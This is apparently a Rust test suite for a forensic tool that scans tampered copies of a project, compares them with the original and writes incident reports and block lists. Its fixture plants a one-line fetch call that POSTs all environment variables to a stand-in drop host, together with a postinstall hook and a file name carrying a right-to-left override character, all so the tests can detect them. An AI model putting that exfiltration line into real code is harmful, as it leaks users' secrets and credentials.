//! The section on copies as a responder and a lawyer read it: what may be said of all places, the lines beside those of the
//! original, and what is to be blocked because of which copy.

mod common;

use std::ffi::{OsStr, OsString};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use common::pages::{assert_clean, checkers};
use common::{Ran, incident, run, scratch, sign_incident, tree, write_all};
use serde_json::Value;

/// A line that somebody put into a copy.
const PUT_IN: &str = "void fetch('https://in.drop.example/env', { method: 'POST', body: JSON.stringify(process.env) });";

/// Four places, one of them tampered with, of a list of ten; scanned, and held against the original.
struct Incident {
    folder: tempfile::TempDir,
}

fn copy_tree(from: &Path, to: &Path) {
    for path in tree(from)
        .into_iter()
        .filter(|(_, (_, digest))| digest.is_some())
    {
        let (from, to) = (from.join(&path.0), to.join(&path.0));
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(from, to).unwrap();
    }
}

impl Incident {
    fn new() -> Self {
        let it = Self { folder: scratch() };
        let work = incident().join("acme-cli/src");
        for name in ["original", "clones/clean", "clones/bad", "clones/part"] {
            copy_tree(&work, &it.path(name));
        }
        std::fs::remove_dir_all(it.path("clones/part/commands")).unwrap();
        let entry = it.path("clones/bad/cli.ts");
        let text = std::fs::read_to_string(&entry).unwrap();
        std::fs::write(&entry, format!("{PUT_IN}\n{text}")).unwrap();
        let manifest =
            r#"{"name": "acme-cli", "version": "9.9.9", "scripts": {"postinstall": "node x.js"}}"#;
        write_all(
            &it.path("clones/bad"),
            &[
                ("package.json", manifest),
                ("a<b>\u{202e}.ts", "export {};\n"),
            ],
        );
        write_all(&it.path("clones/none"), &[("x.js", "run()\n")]);
        let mut list = String::from("url,path,parent,seen-at\n");
        for (name, path) in [
            ("clean", "clones/clean"),
            ("bad", "clones/bad"),
            ("part", "clones/part"),
            ("none", "clones/none"),
        ] {
            list += &format!(
                "https://forge.example/{name}/cli,{path},https://forge.example/clean/cli,2026-04-02T08:00:00Z\n"
            );
        }
        for number in 0..6 {
            list +=
                &format!("https://forge.example/f{number}/cli,,https://forge.example/clean/cli,\n");
        }
        std::fs::write(it.path("forks.csv"), list).unwrap();
        let set = sign_incident(it.folder.path());
        let (clones, forks, case) = (it.path("clones"), it.path("forks.csv"), it.path("it.case"));
        let arguments: [&OsStr; 10] = [
            "scan".as_ref(),
            clones.as_ref(),
            "--copies-root".as_ref(),
            clones.as_ref(),
            "--signatures".as_ref(),
            set.as_ref(),
            "--origins".as_ref(),
            forks.as_ref(),
            "--case".as_ref(),
            case.as_ref(),
        ];
        run(arguments).expect(0);
        it
    }

    fn compared(self) -> Self {
        let (original, case) = (self.path("original"), self.path("it.case"));
        run([
            OsStr::new("compare"),
            original.as_ref(),
            "--case".as_ref(),
            case.as_ref(),
        ])
        .expect(0);
        self
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn case(&self, more: &[&str]) -> Ran {
        let mut all = vec![
            OsString::from("case"),
            more[0].into(),
            self.path("it.case").into(),
        ];
        all.extend(more[1..].iter().map(OsString::from));
        run(all)
    }

    /// Writes a report into a folder of this name.
    fn report(&self, name: &str, more: &[&OsStr]) -> Ran {
        let (case, output) = (self.path("it.case"), self.path(name));
        let mut all: Vec<&OsStr> = vec![
            "report".as_ref(),
            case.as_ref(),
            "--output".as_ref(),
            output.as_ref(),
        ];
        all.extend(more);
        run(all)
    }

    fn text(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap()
    }

    fn twin(&self, name: &str) -> Value {
        serde_json::from_str(&self.text(&format!("{name}/report.json"))).unwrap()
    }
}

/// The share from which on a place holds the work is the user's to say, and both say it alike.
#[test]
fn the_threshold_of_the_report_is_that_of_case_scope() {
    let it = Incident::new();
    let threshold = [OsStr::new("--threshold"), OsStr::new("0.05")];
    it.report("low", &threshold).expect(0);
    it.report("default", &[]).expect(0);
    let told = it.case(&["scope", "--json", "--threshold", "0.05"]);
    let told: Value = serde_json::from_str(told.text()).unwrap();
    let (low, usual) = (it.twin("low"), it.twin("default"));
    let scope = |twin: &Value| twin["copies"]["scope"].clone();
    assert_eq!(scope(&low)["threshold"], 0.05);
    assert_eq!(scope(&low)["total"], told["total"]);
    assert_eq!(scope(&usual)["threshold"], 0.98);
    assert_ne!(scope(&low)["total"], scope(&usual)["total"]);
    let wrong = [OsStr::new("--threshold"), OsStr::new("1.5")];
    it.report("wrong", &wrong).expect(2).says("up to 1");
}

/// What the terminal prints stands in the page and its twin, to the letter; the public view has the figures and no name.
#[test]
fn the_account_of_all_places_is_that_of_case_scope() {
    let it = Incident::new();
    it.case(&["sample", "--n", "2", "--seed", "7"]).expect(0);
    let told = it.case(&["scope"]).expect(0);
    let scope: Value =
        serde_json::from_slice(&it.case(&["scope", "--json"]).expect(0).stdout).unwrap();
    assert_eq!(scope["total"]["places"], 10, "{scope:#}");
    assert_eq!(scope["total"]["hold"], 2, "{scope:#}");
    let why = scope["no_bound"].as_str().unwrap();
    assert!(why.contains("2 of the 2 places that were drawn"), "{why}");
    for view in ["internal", "counsel"] {
        it.report(view, &["--view".as_ref(), view.as_ref()])
            .expect(0);
        assert_eq!(it.twin(view)["copies"]["scope"], scope, "{view}");
        let page = it.text(&format!("{view}/index.html"));
        // What each row is about fills twelve columns; the sentences stand apart.
        let (rows, sentences) = told.text().split_once("\n\n").unwrap();
        let rows = rows.lines().map(|row| &row[13..]);
        for said in rows.chain(sentences.lines()) {
            let said = said.replace("https://forge.example", "hxxps://forge[.]example");
            assert!(page.contains(&said), "{view} lacks {said}");
        }
    }
    it.report("public", &["--view".as_ref(), "public".as_ref()])
        .expect(0);
    let open = it.twin("public");
    let open = &open["copies"]["scope"];
    for figure in [
        "total", "unlisted", "bound", "no_bound", "support", "verdict",
    ] {
        assert_eq!(open[figure], scope[figure], "{figure}");
    }
    let sentence = scope["sentence"].as_str().unwrap();
    assert_eq!(
        open["sentence"],
        sentence.replace("of acme-cli,", "of a signed work,")
    );
    let page = it.text("public/index.html") + &it.text("public/report.json");
    for name in ["acme", "forge.example", "forge[.]example", "clean"] {
        assert!(!page.contains(name), "{name}");
    }
    assert!(page.contains("A statement about all listed places is not supported"));
}

#[test]
fn copies_stand_beside_the_original_line_by_line() {
    let it = Incident::new();
    let original = it.path("original");
    let with: [&OsStr; 2] = ["--original".as_ref(), original.as_ref()];
    it.report("early", &with)
        .expect(2)
        .says("run `strandline compare");
    let it = it.compared();
    it.report(
        "open",
        &[&with[..], &["--view".as_ref(), "public".as_ref()]].concat(),
    )
    .expect(2)
    .says("shows lines of copies");
    assert!(!it.path("open").exists());
    it.report("one", &with).expect(0);
    let side = it.twin("one")["copies"]["side_by_side"].clone();
    let roots: Vec<&str> = side["pages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["root"].as_str().unwrap())
        .collect();
    assert_eq!(roots, ["clones/bad"], "{side:#}");
    assert_eq!(
        (&side["same"], &side["more"]),
        (&2.into(), &0.into()),
        "{side:#}"
    );
    let page = it.text("one/beside-001.html");
    assert!(
        page.contains("void fetch(&#39;https://in.drop.example/env&#39;"),
        "{page}"
    );
    // A line of the original stands beside it, at its own number on either side; the sign is that of the case.
    let first = std::fs::read_to_string(original.join("cli.ts")).unwrap();
    let first = first.lines().next().unwrap();
    let both = format!(
        "<td class=\"n\">1</td><td>{first}</td><td class=\"s\">=</td><td class=\"n\">2</td><td>{first}</td>"
    );
    assert!(page.contains(&both), "{both}");
    assert!(page.contains("install-script") && page.contains("a&#60;b&#62;"));
    assert!(!page.contains("<script") && !page.contains('\u{202e}'));
    let index = it.text("one/index.html");
    assert!(index.contains("<a href=\"beside-001.html\">"));
    let mode = std::fs::metadata(it.path("one/beside-001.html"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    it.case(&["custody"]).expect(0).prints("report --original");
    // The snippet policy.
    it.report(
        "short",
        &[&with[..], &["--snippet-lines".as_ref(), "1".as_ref()]].concat(),
    )
    .expect(0);
    let short = it.text("short/beside-001.html");
    assert!(short.contains("more lines of this file are cut"));
    assert!(short.matches("<td class=\"s\">").count() < page.matches("<td class=\"s\">").count());
    // The same again is the same.
    it.report("again", &with).expect(0);
    for name in ["index.html", "report.json", "beside-001.html"] {
        assert_eq!(
            it.text(&format!("one/{name}")),
            it.text(&format!("again/{name}"))
        );
    }
}

#[test]
fn nothing_is_shown_of_what_is_not_what_was_compared() {
    let it = Incident::new().compared();
    // Another original than the one that the figures are of.
    let other = it.path("clones/part");
    it.report("other", &["--original".as_ref(), other.as_ref()])
        .expect(3)
        .says("something else than the case says");
    let side = it.twin("other")["copies"]["side_by_side"].clone();
    assert_eq!(
        (
            side["pages"].as_array().unwrap().len(),
            side["missed"].as_array().unwrap().len()
        ),
        (0, 1)
    );
    assert!(!it.path("other/beside-001.html").exists());
    // A copy that is another than was scanned.
    std::fs::write(it.path("clones/bad/cli.ts"), "other\n").unwrap();
    let original = it.path("original");
    it.report("changed", &["--original".as_ref(), original.as_ref()])
        .expect(3)
        .says("changed-since-scan");
    assert!(
        it.text("changed/index.html")
            .contains("Copies that were to be shown and could not be.")
    );
    std::fs::remove_dir_all(it.path("clones/bad")).unwrap();
    it.report("gone", &["--original".as_ref(), original.as_ref()])
        .expect(3)
        .says("vanished");
}

#[test]
fn what_is_to_be_blocked_says_which_copy_and_which_rule() {
    let it = Incident::new().compared();
    it.report("one", &[]).expect(0);
    let sources = it.text("one/block-sources.csv");
    let of = |value: &str| {
        let mut lines = sources
            .lines()
            .filter(|line| line.split(',').nth(1) == Some(value));
        let line = lines
            .next()
            .unwrap_or_else(|| panic!("no {value} in {sources}"));
        assert_eq!(lines.next(), None);
        line
    };
    let manifest = std::fs::read(it.path("clones/bad/package.json")).unwrap();
    let line = of(&common::sha256(&manifest));
    assert!(
        line.starts_with("today,")
            && line.contains(
                ",sha256,put into a copy,install-script,clones/bad,clones/bad/package.json,"
            ),
        "{line}"
    );
    // Each line of both lists has one, and nothing else has.
    let blocked = it.text("one/block-sha256.txt") + &it.text("one/block-hosts.txt");
    let values: Vec<&str> = sources
        .lines()
        .skip(1)
        .filter_map(|line| line.split(',').nth(1))
        .collect();
    assert_eq!(values, blocked.lines().collect::<Vec<_>>());
    let lists = it.twin("one")["actions"]["lists"].clone();
    let row = lists
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["file"] == "block-sources.csv")
        .unwrap()
        .clone();
    assert_eq!(row["lines"], values.len());
}

#[test]
fn pages_with_copies_are_clean_by_checkers_of_other_hands() {
    let Some(tools) = checkers() else { return };
    let it = Incident::new().compared();
    let original = it.path("original");
    let with: [&OsStr; 2] = ["--original".as_ref(), original.as_ref()];
    it.report("internal", &with).expect(0);
    it.report(
        "counsel",
        &[&with[..], &["--view".as_ref(), "counsel".as_ref()]].concat(),
    )
    .expect(0);
    it.report("public", &["--view".as_ref(), "public".as_ref()])
        .expect(0);
    for page in [
        "internal/index.html",
        "internal/beside-001.html",
        "counsel/index.html",
        "public/index.html",
    ] {
        assert_clean(&tools, &it.path(page));
    }
}
